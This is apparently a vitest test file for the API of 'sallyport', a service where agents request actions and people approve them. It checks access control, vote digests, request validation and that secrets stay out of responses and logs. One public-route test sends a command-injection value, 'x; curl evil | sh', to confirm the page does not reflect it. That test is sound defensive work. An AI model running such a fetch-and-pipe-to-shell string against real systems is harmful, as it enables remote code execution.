import { delegation, policyChange } from '../../test/support/authority-fakes.ts';
import { standingGrant } from '../../test/support/standing.ts';
import { Problem, Review, ReviewPage, voteProblemCodes } from '@sallyport/sdk/contract';
import { beforeEach, describe, expect, it } from 'vitest';
import { createFake, type Fake, makeReview, ownAction, tokens } from '../../test/api-fake.ts';
import type { VoteRefusalCode } from '../core/reasons.ts';
import { limits } from '../limits.ts';
import type { Review as CoreReview } from '../core/review.ts';
import type { ReviewDesk } from '../ports.ts';
import { createApi, mountRoutes } from './api.ts';
import { openedUse } from '../../test/support/break-glass.ts';
import { problemsOf } from './document.ts';
import type { Route } from './route.ts';
import { routes } from './routes.ts';

let fake: Fake;
let app: ReturnType<typeof createApi>;

beforeEach(() => {
  fake = createFake();
  app = createApi(fake.deps);
});

interface Ask {
  readonly token?: string | undefined;
  readonly method?: string;
  readonly body?: unknown;
  readonly headers?: Readonly<Record<string, string>>;
}

async function ask(path: string, { token, method = 'GET', body, headers = {} }: Ask = {}): Promise<Response> {
  return app.request(path, {
    method,
    headers: {
      ...(token === undefined ? {} : { authorization: `Bearer ${token}` }),
      ...(body === undefined ? {} : { 'content-type': 'application/json' }),
      ...headers,
    },
    ...(body === undefined ? {} : { body: typeof body === 'string' ? body : JSON.stringify(body) }),
  });
}

async function problemOf(response: Response): Promise<Problem> {
  expect(response.headers.get('content-type')).toBe('application/problem+json');
  return Problem.parse(await response.json());
}

/** A path of the route that leads to something. */
function pathOf(route: Route, reviewId: string): string {
  const id = route.path.startsWith('/v1/standing-grants') ? standingGrant().id : reviewId;
  return route.path.replace('{id}', id).replace('{path+}', '0/000.p/5').replace('{question}', '1');
}

/** A vote as a surface sends it that has just read the review. */
const ballotFor = (review: CoreReview) => ({
  kind: 'approve',
  digest: review.subject.digest,
  rendering: fake.deps.desk.show(review).rendering,
});

const proposal = { maxUses: 1, validUntil: '2026-11-21T12:00:00.000Z', reason: 'the like of it' };
const NO_CREDENTIAL = { id: 'AA', response: { clientDataJSON: 'AA', attestationObject: 'AA' } };

const SHOWN = { digest: 'a'.repeat(64), rendering: 'e'.repeat(64) };

/** What each route that takes a body is sent. */
const bodies: Readonly<Record<string, (review: CoreReview) => object>> = {
  vote: ballotFor,
  retractVote: () => ({}),
  voteOnBundle: (review) => ({ votes: [{ review: review.id, ...ballotFor(review) }] }),
  proposeStandingGrant: () => proposal,
  previewStandingGrant: () => ({ standing: standingGrant().id }),
  voteOnStandingGrant: () => ({ kind: 'approve', digest: 'a'.repeat(64), rendering: 'b'.repeat(64) }),
  revokeStandingGrant: () => ({ reason: 'done' }),
  askQuestion: () => ({ text: 'What for?' }),
  answerQuestion: () => ({ text: 'For the newsletter.' }),
  submitAction: () => ({ target: 'billing', operation: 'invoice.refund', arguments: { invoice: 7 } }),
  grantAction: () => ({}),
  reportOutcome: () => ({ status: 'succeeded' }),
  withdrawAction: () => ({}),
  prepareBreakGlass: () => ({ target: 'shop', operation: 'service.restart', reason: 'The shop is down.' }),
  challengeBreakGlass: () => SHOWN,
  signBreakGlass: () => SHOWN,
  grantBreakGlass: () => ({}),
  reportBreakGlass: () => ({ status: 'succeeded' }),
  closeBreakGlass: () => ({ finding: 'justified', text: 'The shop was down.' }),
  offerPasskeyRegistration: () => ({}),
  registerPasskey: () => ({ nonce: 'A'.repeat(43), credential: NO_CREDENTIAL }),
  describeChatLink: () => ({ token: 'A'.repeat(43) }),
  linkChatAccount: () => ({ token: 'A'.repeat(43) }),
  unlinkChatAccount: () => ({ platform: 'slack', tenant: 'T1', user: 'U1' }),
  revokePasskey: () => ({}),
  eraseValues: () => ({ subject: { kind: 'agent', name: 'reporter' }, reason: 'asked' }),
  rotateLedgerKey: () => ({}),
  scanCatalog: () => ({ target: 'shop' }),
  delegate: () => ({ to: 'ned', until: '2026-11-22T09:00:00.000Z' }),
  revokeDelegation: () => ({}),
  foreseeApprovers: () => ({
    agent: 'reporter',
    action: { target: 'billing', operation: 'invoice.refund', arguments: { invoice: 7 } },
  }),
  proposePolicies: () => ({ base: 'v', reason: 'less noise', files: [{ name: 'a.cedar', text: '' }] }),
  voteOnPolicies: () => ({ kind: 'approve', digest: 'a'.repeat(64) }),
  withdrawPolicies: () => ({}),
  checkChannels: () => ({}),
  replayDelivery: () => ({}),
  challengeVote: (review) => {
    const { digest, rendering, kind } = ballotFor(review);
    return { digest, rendering, kind };
  },
  challengeStandingVote: () => ({ kind: 'approve', digest: 'a'.repeat(64), rendering: 'b'.repeat(64) }),
};

/** Routes whose handler has something else to say to a person who may call it, and just read the review. */
const otherwise: Readonly<Record<string, string>> = {
  retractVote: 'vote.nothing_to_retract',
  replayDelivery: 'delivery.not_found',
  answerQuestion: 'question.not_yours',
  registerPasskey: 'passkey.challenge_unknown',
  revokePasskey: 'passkey.not_found',
  challengeVote: 'passkey.none',
  challengeStandingVote: 'passkey.none',
};

const guardedRoutes = routes.filter((route) => route.access.to !== 'public');
const peopleRoutes = routes.filter((route) => route.access.to === 'people');
const agentRoutes = routes.filter((route) => route.access.to === 'agents');
/** Who a route is for, where it answers. */
const callerOf = (route: Route) => (route.access.to === 'agents' ? tokens.reporter : tokens.vera);

/** Where that is not the review's. */
function idFor({ name, path }: Route): string | undefined {
  if (path.startsWith('/v1/break-glass/')) return openedUse().id;
  if (path.startsWith('/v1/delegations/')) return delegation.id;
  if (path.startsWith('/v1/policy-changes/')) return policyChange.id;
  return path.startsWith('/v1/actions/') && name !== 'receipt' ? ownAction.id : undefined;
}

describe('every guarded route', () => {
  const call = async (route: Route, token: string | undefined) => {
    const review = fake.add(makeReview());
    fake.ledger.checkpoint = { size: 5, note: 'note' };
    fake.ledger.receipts.set(review.subject.action, 'receipt');
    const body = bodies[route.name]?.(review);
    const id = idFor(route) ?? review.id;
    const response = await ask(pathOf(route, id), { token, method: route.method.toUpperCase(), body });
    if (response.headers.get('content-type') === 'text/event-stream') await response.body?.cancel();
    return response;
  };

  it.each(guardedRoutes)('$method $path refuses a call without a token', async (route) => {
    const response = await call(route, undefined);
    expect(response.headers.get('www-authenticate')).toMatch(/^Bearer/);
    expect(await problemOf(response)).toMatchObject({ status: 401, code: 'access.unauthenticated' });
  });

  it.each(guardedRoutes)('$method $path refuses an unknown token and says nothing of it', async (route) => {
    const response = await call(route, 'spt_nobody_knows_this');
    const text = await response.text();
    expect({ status: response.status, echoed: text.includes('nobody_knows') }).toEqual({
      status: 401,
      echoed: false,
    });
  });

  it.each(guardedRoutes)('$method $path refuses a person who was disabled', async (route) => {
    expect((await call(route, tokens.gone)).status).toBe(401);
  });

  it.each(peopleRoutes)(
    '$method $path refuses an agent whatever policy says, and records it',
    async (route) => {
      expect((await call(route, tokens.reporter)).status).toBe(403);
      expect(fake.recorded).toEqual([`reporter ${actionOf(route)}`]);
    },
  );

  it.each(agentRoutes)('$method $path refuses a person: they perform nothing here', async (route) => {
    expect((await problemOf(await call(route, tokens.vera))).code).toBe('access.agents_only');
  });

  it.each(guardedRoutes)('$method $path refuses a person whom no policy permits', async (route) => {
    expect(await problemOf(await call(route, tokens.ned))).toMatchObject({
      status: 403,
      code: route.access.to === 'agents' ? 'access.agents_only' : 'access.forbidden',
    });
    expect([...fake.reviews.values()].flatMap((review) => review.votes)).toEqual([]);
  });

  it.each(guardedRoutes)('$method $path answers who may', async (route) => {
    const response = await call(route, callerOf(route));
    const expected = otherwise[route.name];
    if (expected !== undefined) return expect((await problemOf(response)).code).toBe(expected);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toContain(route.answer.contentType);
    expect(response.headers.get('cache-control')).toBe('no-store');
  });

  it.each(guardedRoutes)('$method $path answers nothing once the right is taken away', async (route) => {
    fake.revoked.add(actionOf(route));
    expect((await call(route, callerOf(route))).status).toBe(403);
  });
});

function actionOf(route: Route): string {
  return route.access.to === 'public' ? 'public' : route.access.action;
}

describe('a table of routes', () => {
  const [first] = routes;

  it('does not start with a route that has no policy action', () => {
    const { access, ...rest } = first!;
    expect(() => mountRoutes([rest as Route], fake.deps)).toThrow(/GET \/v1\/reviews has no policy action/);
  });

  it('does not start with a policy action that is not in the list', () => {
    const access = { to: 'people', action: 'api:reviews.burn', agentCode: 'access.people_only' };
    expect(() => mountRoutes([{ ...first!, access } as unknown as Route], fake.deps)).toThrow(
      /no policy action/,
    );
  });

  it('does not start with the same route twice', () => {
    expect(() => mountRoutes([first!, first!], fake.deps)).toThrow(/twice/);
  });
});

describe('an agent', () => {
  it('is refused even where the refusal cannot be recorded, and is told so', async () => {
    fake.ledgerWorks = false;
    const response = await ask('/v1/reviews', { token: tokens.reporter });
    expect(await problemOf(response)).toMatchObject({ status: 503, code: 'ledger.unavailable' });
  });

  it('reads the state of its own review, and nothing of who decides', async () => {
    const review = fake.add(makeReview());
    const response = await ask(`/v1/reviews/${review.id}/state`, { token: tokens.reporter });
    expect(Object.keys((await response.json()) as object).toSorted()).toEqual(
      ['expiresAt', 'id', 'openedAt', 'questions', 'resolution', 'revision', 'status'].toSorted(),
    );
  });

  it('learns of another agent’s review as much as of one that does not exist', async () => {
    const review = fake.add(makeReview());
    const others = await ask(`/v1/reviews/${review.id}/state`, { token: tokens.other });
    const nobodys = await ask(`/v1/reviews/${makeReview().id}/state`, { token: tokens.other });
    expect([others.status, await others.text()]).toEqual([404, await nobodys.text()]);
  });

  it('gets the code of the decision function when it votes', async () => {
    const review = fake.add(makeReview());
    const body = ballotFor(review);
    const response = await ask(`/v1/reviews/${review.id}/votes`, {
      token: tokens.reporter,
      method: 'POST',
      body,
    });
    expect((await problemOf(response)).code).toBe('vote.not_a_person');
    expect(fake.reviews.get(review.id)?.state.status).toBe('pending');
  });
});

describe('a vote', () => {
  const voteOn = (id: string, body: unknown) =>
    ask(`/v1/reviews/${id}/votes`, { token: tokens.vera, method: 'POST', body });

  it('approves with the digest that was shown', async () => {
    const review = fake.add(makeReview());
    const response = await voteOn(review.id, ballotFor(review));
    expect(Review.parse(await response.json())).toMatchObject({
      status: 'approved',
      votes: [{ person: 'vera', kind: 'approve', channel: 'api' }],
    });
  });

  it('of something else than what would run is a conflict', async () => {
    const review = fake.add(makeReview());
    const response = await voteOn(review.id, { ...ballotFor(review), digest: '0'.repeat(64) });
    expect(await problemOf(response)).toMatchObject({ status: 409, code: 'vote.digest_mismatch' });
  });

  it('of a review that has changed since it was shown is a conflict (A4)', async () => {
    const review = fake.add(makeReview());
    const ballot = ballotFor(review);
    await ask(`/v1/reviews/${review.id}/questions`, {
      token: tokens.vera,
      method: 'POST',
      body: { text: 'What for?' },
    });
    const response = await voteOn(review.id, ballot);
    expect(await problemOf(response)).toMatchObject({ status: 409, code: 'vote.rendering_mismatch' });
  });

  it('can be taken back while the review is pending, and cast anew', async () => {
    const [demand] = makeReview().subject.demands;
    const review = fake.add(makeReview({ demands: [{ ...demand!, quorum: 2 }] }));
    await voteOn(review.id, ballotFor(review));
    expect(await problemOf(await voteOn(review.id, ballotFor(review)))).toMatchObject({
      code: 'vote.duplicate',
    });
    const path = `/v1/reviews/${review.id}/votes/retract`;
    const retracted = await ask(path, { token: tokens.vera, method: 'POST', body: {} });
    expect(Review.parse(await retracted.json()).demands).toMatchObject([{ approvals: 0 }]);
    const again = Review.parse(await (await voteOn(review.id, ballotFor(review))).json());
    expect(again.votes.map((vote) => vote.retractedAt === null)).toEqual([false, true]);
  });

  it('without a digest is not a vote', async () => {
    const review = fake.add(makeReview());
    expect((await problemOf(await voteOn(review.id, { kind: 'approve' }))).code).toBe('request.invalid');
  });

  const refusals: Record<VoteRefusalCode, number> = {
    'review.not_found': 404,
    'review.over': 409,
    'vote.not_a_person': 403,
    'vote.not_entitled': 403,
    'vote.own_request': 403,
    'vote.digest_mismatch': 409,
    'vote.rendering_mismatch': 409,
    'vote.nothing_to_retract': 409,
    'vote.over_budget': 429,
    'vote.passkey_required': 403,
    'vote.passkey_invalid': 403,
    'question.empty': 422,
    'question.too_many': 409,
    'question.not_found': 404,
    'question.not_yours': 403,
    'question.answered': 409,
    'idempotency.conflict': 409,
    'vote.duplicate': 409,
    'vote.reason_required': 422,
    'ledger.unavailable': 503,
  };

  it.each(Object.entries(refusals))('refused with %s answers %i', async (code, status) => {
    const refusal = { code: code as VoteRefusalCode, message: 'because' };
    app = createApi({
      ...fake.deps,
      desk: { ...bound(fake.deps.desk), vote: async () => ({ ok: false, error: refusal }) },
    });
    const response = await voteOn(makeReview().id, {
      kind: 'approve',
      digest: 'a'.repeat(64),
      rendering: 'b'.repeat(64),
    });
    const problem = await problemOf(response);
    expect(problem).toMatchObject({ code, status });
    expect(problem.detail).toMatch(/^because/);
  });

  it('is refused for reasons that clients know by the same names', () => {
    expect([...voteProblemCodes].toSorted()).toEqual(Object.keys(refusals).toSorted());
  });
});

it('a review on the wire holds nothing that only the ledger needs', async () => {
  const review = fake.add(makeReview());
  const text = await (await ask(`/v1/reviews/${review.id}`, { token: tokens.vera })).text();
  expect(text).not.toContain(review.subject.salt);
});

describe('a list of reviews', () => {
  it('comes newest first, a page at a time, and each once', async () => {
    const added = [1, 2, 3, 4, 5].map(() => fake.add(makeReview()).id);
    const seen: string[] = [];
    let before = '';
    for (let page = 0; page < 3; page++) {
      const response = await ask(`/v1/reviews?limit=2${before}`, { token: tokens.vera });
      const { reviews, next } = ReviewPage.parse(await response.json());
      seen.push(...reviews.map((review) => review.id));
      before = next === null ? '' : `&before=${next}`;
    }
    expect(seen).toEqual(added.toReversed());
  });

  it('holds no command, so that nobody decides from it', async () => {
    fake.add(makeReview({ command: 'SELECT card_number FROM customers' }));
    expect(await (await ask('/v1/reviews', { token: tokens.vera })).text()).not.toContain('card_number FROM');
  });
});

describe('a request that is not valid', () => {
  const invalid: readonly (readonly [string, string, Ask])[] = [
    ['a query key that is not known', '/v1/reviews?colour=red', {}],
    ['a query key given twice', '/v1/reviews?limit=1&limit=2', {}],
    ['a limit of zero', '/v1/reviews?limit=0', {}],
    ['a limit beyond the maximum', '/v1/reviews?limit=101', {}],
    ['a time that is none', '/v1/usage?since=yesterday', {}],
    ['an end before its beginning', '/v1/usage?since=2026-01-02T00:00:00Z&until=2026-01-01T00:00:00Z', {}],
    ['a span without end', '/v1/usage?since=2001-01-01T00:00:00Z', {}],
  ];

  it.each(invalid)('%s is refused', async (_name, path, options) => {
    const response = await ask(path, { token: tokens.vera, ...options });
    expect(await problemOf(response)).toMatchObject({ status: 400, code: 'request.invalid' });
  });

  const votes = (body: unknown, headers: Readonly<Record<string, string>> = {}) =>
    ask(`/v1/reviews/${makeReview().id}/votes`, { token: tokens.vera, method: 'POST', body, headers });

  it.each([
    ['no JSON', '{'],
    ['a list', '[]'],
    ['a key that is not known', { kind: 'approve', digest: 'a'.repeat(64), admin: true }],
    ['a kind that is not known', { kind: 'question', digest: 'a'.repeat(64) }],
  ])('a body that is %s is refused', async (_name, body) => {
    expect((await problemOf(await votes(body))).code).toBe('request.invalid');
  });

  it('a body of another content type is refused', async () => {
    const body = { kind: 'approve', digest: 'a'.repeat(64) };
    expect((await votes(body, { 'content-type': 'text/plain' })).status).toBe(400);
  });

  it('a body beyond the limit is refused', async () => {
    const response = await votes({ kind: 'reject', reason: 'x'.repeat(limits.apiBodyBytes) });
    expect(await problemOf(response)).toMatchObject({ status: 413, code: 'request.too_large' });
  });

  it('repeats nothing of what was sent', async () => {
    const response = await votes({ kind: 'hunter2', hunter3: 1, digest: 'hunter4' });
    expect(await response.text()).not.toContain('hunter');
  });

  it.each(['/', '/v2/reviews', '/v1/ledger/', '/v1/reviews/x/y'])('%s is no route', async (path) => {
    expect((await problemOf(await ask(path, { token: tokens.vera }))).code).toBe('route.not_found');
  });

  it.each(['PUT', 'DELETE', 'HEAD'])('%s is no method of a review', async (method) => {
    expect((await ask('/v1/reviews', { token: tokens.vera, method })).status).toBe(404);
  });

  it('a token that is too long is not even looked at', async () => {
    const authenticate = () => Promise.reject(new Error('looked at'));
    app = createApi({ ...fake.deps, authenticate });
    expect((await ask('/v1/reviews', { token: 'x'.repeat(limits.apiTokenCharacters + 1) })).status).toBe(401);
  });
});

describe('a failure inside', () => {
  const secret = "duplicate key (email)=('ada@example.org')";

  it('tells the caller nothing, and the log no message', async () => {
    app = createApi({
      ...fake.deps,
      store: { read: (): Promise<never> => Promise.reject(new Error(secret)) },
    });
    const response = await ask('/v1/reviews', { token: tokens.vera });
    expect(await problemOf(response)).toMatchObject({ status: 500, code: 'internal' });
    expect(fake.logLines.join('')).toContain('api.test.ts');
    expect(fake.logLines.join('')).not.toContain('ada@example.org');
  });

  it('of a store that never answers ends in time', async () => {
    const after = (_delayMs: number, run: () => void) => {
      setTimeout(run, 0);
      return () => {};
    };
    app = createApi({
      ...fake.deps,
      clock: { ...fake.deps.clock, after },
      store: { read: () => new Promise(() => {}) } as unknown as Fake['deps']['store'],
    });
    const response = await ask('/v1/reviews', { token: tokens.vera });
    expect(await problemOf(response)).toMatchObject({ status: 503, code: 'request.timeout' });
  });
});

describe('what came too late', () => {
  it('is let go: no stream stays open for a caller who was told so', async () => {
    const store = Promise.withResolvers<undefined>();
    const ended = Promise.withResolvers<string>();
    const body = new ReadableStream<Uint8Array>({ cancel: () => ended.resolve('cancelled') });
    const events = routes.find(({ name }) => name === 'events');
    const handle = async () => {
      await store.promise;
      return { kind: 'stream', body } as const;
    };
    const after = (_delayMs: number, run: () => void) => {
      setTimeout(run, 0);
      return () => {};
    };
    const clock = { ...fake.deps.clock, after };
    app = mountRoutes([{ ...events, handle } as Route], { ...fake.deps, clock });
    expect((await ask('/v1/events', { token: tokens.vera })).status).toBe(503);
    store.resolve(undefined);
    expect(await Promise.race([ended.promise, new Promise((resolve) => setTimeout(resolve, 500))])).toBe(
      'cancelled',
    );
  });
});

describe('half a character in a text', () => {
  it.each([
    ['in a value', '{"text":"a\\ud800b"}'],
    ['at the end of a value', '{"text":"\\uDFFF"}'],
  ])('%s is refused as such: no record could hold it', async (_, body) => {
    const { id } = fake.add(makeReview());
    const response = await ask(`/v1/reviews/${id}/questions`, { token: tokens.vera, method: 'POST', body });
    expect(await problemOf(response)).toMatchObject({ status: 400, code: 'request.invalid' });
  });

  it('is none where both halves are there', async () => {
    const { id } = fake.add(makeReview());
    const body = '{"text":"Why? \\ud83d\\ude00"}';
    const response = await ask(`/v1/reviews/${id}/questions`, { token: tokens.vera, method: 'POST', body });
    expect(response.status).toBe(200);
  });
});

describe('public routes', () => {
  it('say that the process answers', async () => {
    expect(await (await ask('/healthz')).text()).toBe('ok\n');
  });

  it('say the same of a review that exists and of one that does not', async () => {
    const [known, unknown] = [fake.add(makeReview()).id, makeReview().id];
    const texts = await Promise.all([known, unknown].map(async (id) => (await ask(`/reviews/${id}`)).text()));
    expect(texts[0]).toContain(`sallyport show ${known}`);
    expect(texts[1]?.replaceAll(unknown, known)).toBe(texts[0]);
  });

  it('put nothing of a link into the page that is not an id', async () => {
    const text = await (await ask(`/reviews/${encodeURIComponent('x; curl evil | sh')}`)).text();
    expect(text).not.toContain('evil');
  });
});

it('no token of any kind reaches the log', async () => {
  for (const token of Object.values(tokens)) await ask('/v1/reviews', { token });
  expect(fake.logLines.length).toBeGreaterThan(0);
  expect(fake.logLines.join('')).not.toContain('spt_');
});

describe('documented problems', () => {
  it.each(guardedRoutes)('of $method $path hold what access control answers', (route) => {
    expect(problemsOf(route)).toEqual(expect.arrayContaining(['access.unauthenticated', 'access.forbidden']));
  });
});

/** The desk as a plain object, of which a test replaces one method. */
const bound = (desk: ReviewDesk): ReviewDesk => ({
  vote: (ask) => desk.vote(ask),
  retract: (ask) => desk.retract(ask),
  question: (ask) => desk.question(ask),
  answer: (ask) => desk.answer(ask),
  previewed: (review) => desk.previewed(review),
  show: (review) => desk.show(review),
  approvers: (review) => desk.approvers(review),
});
